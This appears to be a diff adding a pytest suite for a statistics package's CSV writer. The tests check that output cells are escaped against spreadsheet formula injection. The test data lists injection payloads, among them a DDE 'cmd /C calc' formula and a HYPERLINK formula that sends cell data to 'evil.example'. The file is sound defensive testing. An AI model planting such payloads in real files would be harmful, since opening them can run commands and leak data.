@@ -1,0 +1,328 @@
+"""No text that we write is a formula to a spreadsheet, and each comes back as it was."""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import io
+import re
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+from typer.testing import CliRunner
+
+import silomix
+from cases.posteriors import make_posterior, with_drift
+from silomix import cli
+from silomix.errors import DataError
+from silomix.model.draws import Correspondence, SiloWeights
+from silomix.model.reading import read_table
+from silomix.model.schema import Schema, Variable
+from silomix.model.spreadsheet import for_spreadsheet, from_spreadsheet
+from silomix.report.results_folder import write_posterior, write_silo, write_table
+
+CALC = "=cmd|' /C calc'!A0"
+ATTACKS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\tx",
+    "\rx",
+    " =1+1",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "\x00=1+1",
+    "'=1+1",
+    '"=1+1',
+    '" =1+1"',
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(1)",
+    "\ufe661+1",
+    "\u22121+1",
+    "a;=1+1",
+    "a,=1+1",
+    "a|=1+1",
+    "a\t=1+1",
+    "a\r=1+1",
+    "a\n=1+1",
+    "a\u2028=1+1",
+    "a;; =1+1",
+    'a";"=1+1',
+    "a;'=1+1",
+    "a\uff1b\uff1d1+1",
+    "a;-",
+    "a;-1",
+    "a;+ve",
+    "-1,5+cmd|' /C calc'!A0",
+    CALC,
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+]
+PLAIN = ["", "a", "1-2", "'a", "a=b", "a@b", "a - b", "COPD; severe", "'tis", "1;2", "a b"]
+NUMBERS = ["-", "+", "- ", "-1", "+1.5", "-1,5", "-.5", "-1e-5", "-5%", "1", "0.5", "(-10, -5]"]
+
+SEPARATORS = [",", ";", "[|]", "\t", "\n", "\r", "[;,|\t\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]"]
+SHOWN = re.compile(r"[+-]\s*|[+-][0-9.,]+(e[+-]?[0-9]+)?[%)\]]?\s*")
+
+
+def evaluated(cell):
+    """Tell whether some spreadsheet, however it splits a cell, may evaluate a part of it."""
+    for separator in SEPARATORS:
+        for part in re.split(separator, cell):
+            bare = part.strip(' "\t\r\n\x00\u00a0\ufeff\u200b\uff02')
+            if bare[:1] in set("=@\uff1d\uff20\ufe66\ufe6b"):
+                return True
+            signed = bare[:1] in set("+-\uff0b\uff0d\ufe62\ufe63\u2212")
+            if signed and not SHOWN.fullmatch("-" + bare[1:]):
+                return True
+    return False
+
+
+TRICKY = st.text(
+    st.sampled_from("=+-@'\";,|\t\r\n 15.])e%a\ufeff\u200b\uff1d\uff0d\uff1b\u2028\x00")
+)
+TEXTS = TRICKY | st.text(st.characters(exclude_categories=["Cs"]))
+"""UTF-8 has no surrogates."""
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_an_attack_is_text(attack):
+    written = for_spreadsheet(attack)
+    assert written != attack
+    assert not evaluated(written)
+    assert from_spreadsheet(written) == attack
+
+
+@pytest.mark.parametrize("text", [*PLAIN, *NUMBERS])
+def test_other_texts_and_numbers_stay_as_they_are(text):
+    assert for_spreadsheet(text) == text
+    assert from_spreadsheet(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("a;=1+1", "a;'=1+1"),
+        ("=1;=2", "'=1;'=2"),
+        ("\t=1", "'\t'=1"),
+        ("'=1", "''=1"),
+        ("'-1", "''-1"),
+        ("yes, -ve", "yes,' -ve"),
+    ],
+)
+def test_where_the_apostrophes_stand(text, written):
+    assert for_spreadsheet(text) == written
+
+
+def test_a_line_does_not_begin_with_a_sign():
+    """Else "-1" and "5+cmd|..." are -1,5+cmd|... to a spreadsheet that splits at semicolons."""
+    assert for_spreadsheet("-1", first=True) == "'-1"
+    assert for_spreadsheet("+", first=True) == "'+"
+    assert for_spreadsheet("1", first=True) == "1"
+
+
+def test_texts_that_were_never_guarded_are_read_as_they_are():
+    assert from_spreadsheet("=1+1") == "=1+1"
+    assert from_spreadsheet("'tis") == "'tis"
+
+
+@settings(max_examples=2000)
+@given(TEXTS)
+@example("'\t'=1")
+@example("\t-5")
+@example("+\t=1")
+def test_every_text_comes_back(text):
+    written = for_spreadsheet(text)
+    assert not evaluated(written)
+    assert from_spreadsheet(written) == text
+    assert from_spreadsheet(for_spreadsheet(written)) == written
+    leading = for_spreadsheet(text, first=True)
+    assert from_spreadsheet(leading) == text
+    assert not re.match(r"['\"\s]*[=@+-]", leading) or leading.startswith("'")
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["\t" * 200_000, "'\t" * 100_000 + "=", "+ " * 100_000, ";" * 100_000 + "x=", "'" * 200_000],
+    ids=["tabs", "quoted tabs", "signs", "semicolons", "quotes"],
+)
+def test_a_long_text_takes_time_in_proportion(text):
+    # 200,000 characters take a second at most; one that looks back at all before takes hours
+    assert from_spreadsheet(for_spreadsheet(text)) == text
+
+
+MISSING = {"", "NA", "NaN"}
+"""What our reader takes for a missing cell, whoever wrote it."""
+
+
+@settings(max_examples=300)
+@given(rows=st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=4), heading=TEXTS)
+def test_every_table_comes_back(rows, heading, tmp_path_factory):
+    path = tmp_path_factory.getbasetemp() / "every-table.csv"
+    rows = [[text + "." if text in MISSING else text for text in row] for row in rows]
+    first, second = zip(*rows, strict=True)
+    table = pd.DataFrame({"first": first, "n": -1.5, f"{heading}.": 1, "second": second})
+    write_table(table, path)
+    back = read_table(path).to_native()
+    assert list(back.columns) == list(table.columns)
+    assert back["first"].tolist() == list(first)
+    assert back["second"].tolist() == list(second)
+    assert set(back["n"]) == {"-1.5"}
+    check_cells(path)
+
+
+def test_categories_missing_cells_and_numbers(tmp_path):
+    table = pd.DataFrame(
+        {
+            "silo": pd.Categorical(["=1", None, "=1", "a"]),
+            "id": [None, "+1+1", "-1", "b"],
+            "any": [True, -1, "=x", None],
+            "share": [-0.25, np.nan, 1e-9, np.inf],
+            "count": [1, 2, 3, 4],
+            "significant": [True, False, True, False],
+        }
+    )
+    write_table(table, tmp_path / "t.csv")
+    assert (tmp_path / "t.csv").read_text().splitlines() == [
+        "silo,id,any,share,count,significant",
+        "'=1,,True,-0.25,1,True",
+        ",'+1+1,-1,,2,False",
+        "'=1,-1,'=x,1e-09,3,True",
+        "a,b,,inf,4,False",
+    ]
+    back = read_table(tmp_path / "t.csv").to_native()
+    assert back["silo"].astype(object).fillna("?").tolist() == ["=1", "?", "=1", "a"]
+
+
+def test_two_spellings_of_one_text_are_one_level(tmp_path):
+    (tmp_path / "t.csv").write_text("x,y\n'+ve,1\n+ve,1\n,2\n-ve,1\n'-ve,2\n")
+    column = read_table(tmp_path / "t.csv").to_native()["x"]
+    assert column.fillna("-ve").tolist() == ["+ve", "+ve", "-ve", "-ve", "-ve"]
+    assert column.isna().tolist() == [False, False, True, False, False]
+    assert sorted(column.cat.categories) == ["+ve", "-ve"]
+    (tmp_path / "t.csv").write_text("=x,'=x\n1,2\n")
+    with pytest.raises(DataError, match=r"column names \['=x'\] stand more than once"):
+        read_table(tmp_path / "t.csv")
+
+
+def check_cells(path):
+    """Check a file as spreadsheets of several countries would split it."""
+    text = path.read_bytes().decode()
+    for row in csv.reader(io.StringIO(text, newline="")):
+        assert not any(map(evaluated, row)), row
+    # in the middle of a cell, quotes protect nothing
+    for line in re.split("[\r\n]", text):
+        assert not any(map(evaluated, line.split(";"))), line
+
+
+LEVELS = ("a;=1+1", "=2", "-3")
+EVIL = Schema(
+    (
+        Variable(CALC, ("+ve", "-ve")),
+        Variable("@x;=1+1", LEVELS),
+        Variable("\uff1dx", ("x, =1", "-1")),
+    )
+)
+SILOS = ("+north", "=1+1")
+
+
+@pytest.fixture
+def evil(seed):
+    """A posterior whose names are formulas, all of them."""
+    rng = np.random.default_rng(seed)
+    made = with_drift(make_posterior(rng, schema=EVIL), rng)
+    match = made.correspondence
+    study = made.study.model_copy(update={"silos": SILOS})
+    return dataclasses.replace(
+        made,
+        study=study,
+        correspondence=Correspondence(
+            SILOS, match.groups, match.sizes, match.method, match.confidence
+        ),
+        silo_weights=SiloWeights(SILOS, made.silo_weights.weights, made.silo_weights.profiles),
+        provenance=dataclasses.replace(
+            made.provenance, silos=SILOS, sent={name: {} for name in SILOS}
+        ),
+    )
+
+
+def test_the_files_of_a_fit_have_no_formulas(evil, tmp_path):
+    ids = np.array([*ATTACKS[: len(evil.labels) - 1], None], dtype=object)
+    write_posterior(tmp_path, evil, ids)
+    tables = {path.name: path for path in tmp_path.glob("*.csv")}
+    assert len(tables) == 6
+    for path in tables.values():
+        check_cells(path)
+
+    def column(file, name):
+        return read_table(tables[file]).to_native()[name].tolist()
+
+    assert column("labels.csv", "id")[:-1] == ids[:-1].tolist()
+    assert column("labels.csv", "silo") == [SILOS[place] for place in evil.assignment.silos]
+    pairs = zip(
+        column("profiles.csv", "variable"), column("profiles.csv", "level_name"), strict=True
+    )
+    assert list(pairs) == EVIL.levels * evil.n_clusters
+    assert set(column("drift.csv", "variable")) == {variable.name for variable in EVIL.variables}
+    assert set(SILOS) & set(column("drift.csv", "highest_silo"))
+    for file in ("correspondence.csv", "silo_weights.csv"):
+        assert set(column(file, "silo")) == set(SILOS)
+
+
+def test_the_files_of_one_silo_have_no_formulas(tmp_path, seed):
+    rng = np.random.default_rng(seed)
+    table = pd.DataFrame({v.name: rng.choice(v.levels, 60) for v in EVIL.variables})
+    draws = silomix.sample(table, iterations=60, threads=1, progress=False)
+    posterior = silomix.local_posterior(draws, partition=rng.integers(0, 2, 60), relabel="average")
+    write_silo(tmp_path, "north", posterior)
+    for path in tmp_path.glob("*.csv"):
+        check_cells(path)
+    back = read_table(tmp_path / "profiles.csv").to_native()
+    assert set(back["variable"]) == set(table.columns)
+
+
+def test_the_commands_write_no_formulas(tmp_path, monkeypatch, seed):
+    rng = np.random.default_rng(seed)
+    monkeypatch.chdir(tmp_path)
+    table = pd.DataFrame({v.name: rng.choice(v.levels, 80) for v in EVIL.variables})
+    table["silo"] = np.repeat(SILOS, 40)
+    table["id"] = [f"{ATTACKS[row % len(ATTACKS)]}{row}" for row in range(80)]
+    table["@ward;x"] = rng.choice(["=w", "a;-", "-1"], 80)
+    write_table(table, tmp_path / "table.csv")
+    fit = ["fit", "table.csv", "--silo", "silo", "--id", "id", "--outside", "@ward;x"]
+    fit += ["--iterations", "60", "--components", "3", "--out", "results", "--threads", "1"]
+    assign = ["assign", "results", "table.csv", "--silo", "silo", "--id", "id", "--out", "l.csv"]
+    for command in (fit, assign):
+        result = CliRunner().invoke(cli.app, command)
+        assert result.exit_code == 0, result.output
+    files = [*tmp_path.rglob("*.csv")]
+    assert {"l.csv", "labels.csv", "profiles.csv", "outside.csv"} <= {file.name for file in files}
+    for path in files:
+        check_cells(path)
+    for file in ("l.csv", "results/labels.csv"):
+        assert read_table(file).to_native()["id"].tolist() == table["id"].tolist()
+    outside = read_table("results/outside.csv").to_native()
+    assert set(outside["variable"]) == {"@ward;x"}
+    assert set(outside["level_name"]) == {"=w", "a;-", "-1"}
+
+
+def test_who_writes_tables():
+    """Only these write text as CSV, through the guard; messages and a site's labels are numbers."""
+    root = Path(silomix.__file__).parent
+    writers = {
+        path.relative_to(root).as_posix()
+        for path in root.rglob("*.py")
+        if re.search(r"to_csv\(|write_csv\(|csv\.writer|DictWriter", path.read_text("utf-8"))
+    }
+    assert writers == {"report/results_folder.py", "messages/csv_tables.py"}
